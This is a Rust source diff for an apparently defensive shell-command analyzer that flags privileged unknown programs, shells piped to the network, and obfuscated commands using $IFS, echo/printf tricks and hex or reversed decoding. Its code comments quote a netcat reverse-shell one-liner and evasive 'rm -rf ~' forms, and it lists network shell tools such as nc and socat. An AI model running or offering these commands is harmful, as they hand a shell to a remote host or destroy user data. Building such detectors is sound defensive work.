@@ -12,6 +12,9 @@ use super::places::{self, Where};
 use super::{programs, Cmd, Effect, RawTarget, Sink};
 use crate::shell::{self, Parsed, SimpleCommand};
 
+/// Wrappers that run their command with root privileges.
+const PRIVILEGE_WRAPPERS: &[&str] = &["sudo", "doas", "pkexec", "su", "runuser", "run0"];
+
 /// Deepest nesting of code found inside commands (`python -c "os.system('sh -c …')"`).
 pub(super) const MAX_NESTING: usize = 4;
 
@@ -291,6 +294,15 @@ pub fn effects_of_parsed(
             }
         } else if !program.is_empty() {
             let known = programs::model(&view, &mut sink);
+            // Unknown under `sudo`/`doas`: what it destroys is the system's.
+            if !known
+                && cmd
+                    .wrappers
+                    .iter()
+                    .any(|w| PRIVILEGE_WRAPPERS.contains(&&**w))
+            {
+                programs::model_privileged(&view, &mut sink);
+            }
             // A program gate does not know, run by a path (or by a name, given one of gate's
             // subcommands), that is the running gate: its subcommands are gate's.
             if !known
@@ -513,6 +525,11 @@ pub fn effects_of_parsed(
                 }
             }
         }
+        // A shell reading its standard input whose output a pipe carries to the network
+        // (`cat /tmp/f | sh -i 2>&1 | nc h 4444 > /tmp/f`): a shell handed to the network.
+        if runs_stdin(cmd) && programs::is_shell(program) && pipes_to_network(parsed, i) {
+            sink.none(Act::RemoteExec);
+        }
         // A file the line downloaded, run by this command, is remote code.
         if !fetched.is_empty() {
             let spot = |w: &str| places::place_of(w, &cwd, oldpwd.as_deref(), at).1;
@@ -637,6 +654,16 @@ fn located_program(commands: &[SimpleCommand<'_>], i: usize) -> Option<String> {
             ("which" | "whence" | "whereis", [.., name]) => name,
             ("type", [flag, name]) if flag.starts_with("-") => name,
             ("readlink" | "realpath", [.., name]) if name.contains('/') => name,
+            // Printed words (`$(echo rm) -rf ~`, `` `printf rm` ``), escapes made real.
+            ("echo", [first, ..]) if !first.starts_with('-') || words.len() > 1 => {
+                let printed: Vec<&str> = words
+                    .iter()
+                    .copied()
+                    .skip_while(|w| w.starts_with('-'))
+                    .collect();
+                return Some(unescape(&printed.join(" ")));
+            }
+            ("printf", [format]) if !format.contains('%') => return Some(unescape(format)),
             _ => return None,
         };
         Some(name.rsplit('/').next().unwrap_or(name).to_string())
@@ -656,6 +683,13 @@ fn computed_word(
 ) -> Option<Option<String>> {
     if matches!(word, "[" | "[[") {
         return None;
+    }
+    // `rm${IFS}-rf${IFS}~`: an `IFS` the line does not set splits at a space.
+    if last_value(vars, "IFS").is_none() && (word.contains("$IFS") || word.contains("${IFS}")) {
+        let spaced = default_ifs(word);
+        if !spaced.contains(['$', '`']) {
+            return Some(Some(spaced));
+        }
     }
     let expands = word.contains(['$', '`']);
     let braced = word.contains('{') && word.contains('}') && places::braces(word).len() > 1;
@@ -704,6 +738,32 @@ fn computed_word(
         }
     }
     Some(Some(text))
+}
+
+/// `$IFS` and `${IFS}` replaced by a space (the default `IFS` splits there); `$IFSX` is
+/// another variable and stays.
+fn default_ifs(word: &str) -> String {
+    let mut out = String::with_capacity(word.len());
+    let mut rest = word;
+    while let Some(k) = rest.find('$') {
+        out.push_str(&rest[..k]);
+        let tail = &rest[k..];
+        if let Some(after) = tail.strip_prefix("${IFS}") {
+            out.push(' ');
+            rest = after;
+        } else if let Some(after) = tail
+            .strip_prefix("$IFS")
+            .filter(|a| !a.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_'))
+        {
+            out.push(' ');
+            rest = after;
+        } else {
+            out.push('$');
+            rest = &tail[1..];
+        }
+    }
+    out.push_str(rest);
+    out
 }
 
 /// Whether every expansion in a word is a plain one whose value is the variable's own
@@ -1182,6 +1242,43 @@ fn piped_into_runner(parsed: &Parsed<'_>, i: usize) -> bool {
     false
 }
 
+/// Programs that carry a byte stream to another machine.
+const NETWORK_PIPES: &[&str] = &[
+    "nc",
+    "ncat",
+    "netcat",
+    "nc.openbsd",
+    "nc.traditional",
+    "socat",
+    "telnet",
+    "openssl",
+    "cryptcat",
+    "websocat",
+];
+
+/// Whether command `i`'s output is piped (directly or through pass-through filters) into a
+/// program that carries it to the network.
+fn pipes_to_network(parsed: &Parsed<'_>, i: usize) -> bool {
+    let mut frontier = vec![i];
+    let mut seen = vec![false; parsed.commands.len()];
+    while let Some(k) = frontier.pop() {
+        for &(a, b) in &parsed.pipes {
+            if a != k || seen.get(b).copied().unwrap_or(true) {
+                continue;
+            }
+            seen[b] = true;
+            let next = &*parsed.commands[b].program;
+            if NETWORK_PIPES.contains(&next) {
+                return true;
+            }
+            if PASS_THROUGH.contains(&next) {
+                frontier.push(b);
+            }
+        }
+    }
+    false
+}
+
 /// Whether a command may run the text of a substitution as code: a shell or interpreter, a
 /// computed program (`$(curl …)` as the command word), or code under a peeled `sh -c`,
 /// `eval` or `env -S`.
@@ -1250,31 +1347,20 @@ fn stdin_text(parsed: &Parsed<'_>, i: usize) -> Option<String> {
     (!text.is_empty()).then_some(text)
 }
 
-/// What command `i` prints when it decodes text the line shows (`echo cm0g… | base64 -d`).
+/// What command `i` prints when it decodes text the line shows (`echo cm0g… | base64 -d`,
+/// `xxd -r -p <<< 726d…`, `rev <<< '~ fr- mr'`): see [`super::decode`].
 fn decoded_output(parsed: &Parsed<'_>, i: usize) -> Option<String> {
-    use base64::Engine as _;
     let p = &parsed.commands[i];
-    let decodes = matches!(&*p.program, "base64" | "gbase64")
-        && p.args
-            .iter()
-            .any(|a| matches!(&**a, "-d" | "-D" | "--decode"));
-    if !decodes {
+    if !super::decode::is_decoder(&p.program) {
         return None;
     }
     let encoded = stdin_text(parsed, i)?;
-    let clean: String = encoded.split_whitespace().collect();
-    let engine = base64::engine::general_purpose::STANDARD;
-    let decoded = engine.decode(clean.as_bytes()).or_else(|_| {
-        base64::engine::general_purpose::STANDARD_NO_PAD.decode(clean.trim_end_matches('='))
-    });
-    decoded
-        .ok()
-        .map(|bytes| String::from_utf8_lossy(&bytes).into_owned())
+    super::decode::decode(&p.program, &p.args, &encoded)
 }
 
-/// `\n` and `\t` escapes made real, as `printf` and `echo -e` print them.
+/// The escapes `printf` and `echo -e` make real (`\n`, `\t`, `\xHH`, octal).
 fn unescape(w: &str) -> String {
-    w.replace("\\n", "\n").replace("\\t", "\t")
+    super::decode::unescape(w)
 }
 
 /// The arguments of command `i`, with `find -exec`'s `{}` replaced by the roots of the
